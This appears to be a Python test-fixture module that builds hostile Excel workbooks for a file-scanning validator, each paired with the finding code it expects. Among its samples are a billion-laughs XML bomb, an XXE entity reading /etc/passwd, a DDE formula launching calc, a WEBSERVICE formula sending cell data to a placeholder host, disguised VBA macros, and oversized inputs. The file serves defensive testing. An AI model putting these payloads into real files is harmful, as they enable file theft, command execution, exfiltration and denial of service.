"""Workbooks whose parts are missing, run, reach out, or expand."""

from collections.abc import Iterator

from hostile_kit import (
    ANY,
    CONTENT_TYPES,
    HEADINGS,
    MAIN,
    OFFICE,
    SHEET,
    Hostile,
    cell,
    packed,
    parts,
    related,
    sheet,
    styles,
    swapped,
    with_part,
    without,
)


def laughs() -> bytes:
    """Nine entities of ten each: a thousand million laughs."""
    entities = b'<!ENTITY l0 "lol">' + b"".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">'.encode() for n in range(1, 10)
    )
    return b'<?xml version="1.0"?><!DOCTYPE w [' + entities + b"]><worksheet>&l9;</worksheet>"


def _many_sheets() -> bytes:
    rows = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, 91))
    book = f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>{rows}</sheets></workbook>'
    return with_part("xl/workbook.xml", book.encode())


def parts_() -> Iterator[Hostile]:
    for name in (CONTENT_TYPES, "xl/workbook.xml", "xl/_rels/workbook.xml.rels", SHEET, "xl/styles.xml"):
        answer = "FI103" if name in (CONTENT_TYPES, "xl/workbook.xml") else ANY
        yield Hostile(
            f"without_{name.rsplit('/', 1)[-1]}",
            "a workbook that lacks a part",
            lambda name=name: without(name),
            answer,
        )
    yield Hostile(
        "laughs", "a thousand million laughs by entities", lambda: with_part(SHEET, laughs()), "FI110"
    )
    yield Hostile(
        "entity_file",
        "an entity that reads /etc/passwd",
        lambda: with_part(
            SHEET, b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet>&x;</worksheet>'
        ),
        "FI110",
    )
    yield Hostile(
        "entity_in_strings",
        "an entity in the shared texts",
        lambda: with_part("xl/sharedStrings.xml", b'<!DOCTYPE s [<!ENTITY x "y">]><sst/>'),
        "FI110",
    )
    yield Hostile(
        "entity_in_rels",
        "an entity in the relations",
        lambda: with_part("xl/_rels/workbook.xml.rels", b"<!doctype s><Relationships/>"),
        "FI110",
    )
    yield Hostile(
        "xml_utf16",
        "a sheet in UTF-16, which hides what is looked for",
        lambda: with_part(SHEET, parts()[SHEET].decode().encode("utf-16")),
        "FI110",
    )
    yield Hostile(
        "xml_utf16_no_mark",
        "the same without a byte order mark",
        lambda: with_part(SHEET, parts()[SHEET].decode().encode("utf-16-le")),
        "FI110",
    )
    # What a search over a part must not try again from each place.
    for name, again in (
        ("word", b"a"),
        ("tag", b"<"),
        ("run", b"<r "),
        ("data", b"<![CDATA["),
        ("end", b"</p"),
    ):
        yield Hostile(
            f"margin_of_one_{name}",
            "a drawing of one sign, a million bytes long",
            lambda again=again: with_part("xl/drawings/drawing9.xml", again * (1_000_000 // len(again))),
            ANY,
        )
    yield Hostile(
        "margin_endless",
        "a drawing with 20 MB of text in many text boxes",
        lambda: with_part("xl/drawings/drawing9.xml", b"<a:t>" + b"<a:p>0</a:p>" * 1_800_000),
        "FI122",
    )
    yield Hostile("xml_deep", "elements nested 200,000 deep", lambda: with_part(SHEET, b"<a>" * 200_000), ANY)
    yield Hostile(
        "xml_long_attribute",
        "an attribute of a million letters",
        lambda: sheet(b'<row r="1" x="' + b"y" * 1_000_000 + b'">' + cell("A1", "x") + b"</row>"),
        ANY,
    )
    yield Hostile("macro", "a workbook with VBA", lambda: with_part("xl/vbaProject.bin", b"\0"), "FI106")
    yield Hostile(
        "macro_renamed", "VBA under another name", lambda: related("vbaProject", "harmless.bin"), "FI106"
    )
    yield Hostile(
        "macro_enabled",
        "an xlsm by its content type",
        lambda: swapped(CONTENT_TYPES, b"spreadsheetml.sheet.main", b"sheet.macroEnabled.main"),
        "FI106",
    )
    yield Hostile(
        "macro_sheet",
        "an Excel 4 macro sheet",
        lambda: with_part("xl/macrosheets/sheet1.xml", b"<x/>"),
        "FI106",
    )
    yield Hostile(
        "macro_escaped",
        "a relation whose kind is written with character references",
        lambda: related("vba&#80;roject", "x.bin"),
        "FI120 FI106",
    )
    yield Hostile(
        "external_link",
        "a link to another workbook",
        lambda: related("externalLink", "externalLinks/externalLink1.xml"),
        "FI107",
    )
    yield Hostile(
        "external_unrelated",
        "an external link that no relation names",
        lambda: with_part("xl/externalLinks/externalLink1.xml", b"<ddeLink/>"),
        "FI107",
    )
    yield Hostile(
        "connection",
        "a database connection that is fetched when opened",
        lambda: related("connections", "connections.xml"),
        "FI107",
    )
    yield Hostile(
        "embedded_object",
        "a program as an embedded object",
        lambda: related("oleObject", "embeddings/a.bin"),
        "FI121",
    )
    yield Hostile(
        "embedded_package",
        "a document within the workbook",
        lambda: with_part("xl/embeddings/a.docx", b"PK"),
        "FI121",
    )
    yield Hostile(
        "active_x", "an ActiveX control", lambda: with_part("xl/activeX/activeX1.bin", b"x"), "FI121"
    )
    yield Hostile(
        "sheet_is_no_xml",
        "the workbook's sheet is a part that no check would open",
        lambda: packed(
            {
                **parts(),
                "xl/_rels/workbook.xml.rels": parts()["xl/_rels/workbook.xml.rels"].replace(
                    b"sheet2.xml", b"sheet2.dat"
                ),
                "xl/worksheets/sheet2.dat": parts()[SHEET],
            }
        ),
        "FI120",
    )
    yield Hostile(
        "sheets_one_part", "ninety sheets that are all one part, each read and kept", _many_sheets, "FI120"
    )
    yield Hostile(
        "dde",
        "a cell that starts a program by DDE",
        lambda: sheet(HEADINGS + b'<row r="2"><c r="A2" t="str"><f>cmd|\'/c calc\'!A1</f><v>x</v></c></row>'),
        ANY,
    )
    yield Hostile(
        "formula_webservice",
        "a formula that sends a cell to a server",
        lambda: sheet(
            HEADINGS
            + b'<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://x.invalid/"&amp;A1)</f><v>x</v></c></row>'
        ),
        ANY,
    )
    yield Hostile(
        "styles_cyclic",
        "a style that is its own parent, a million times",
        lambda: with_part(
            "xl/styles.xml",
            f'<styleSheet xmlns="{MAIN}"><cellXfs count="1000000">'.encode()
            + b'<xf numFmtId="9999" xfId="0"/>' * 100_000
            + b'</cellXfs><cellStyleXfs><xf xfId="0"/></cellStyleXfs></styleSheet>',
        ),
        ANY,
    )
    yield Hostile(
        "number_format",
        "a number format of 100,000 letters",
        lambda: with_part(
            "xl/styles.xml",
            styles(
                f'<numFmts><numFmt numFmtId="200" formatCode="{"[y" * 50_000}"/></numFmts>'
                '<cellXfs><xf numFmtId="200"/></cellXfs>'
            ),
        ),
        ANY,
    )
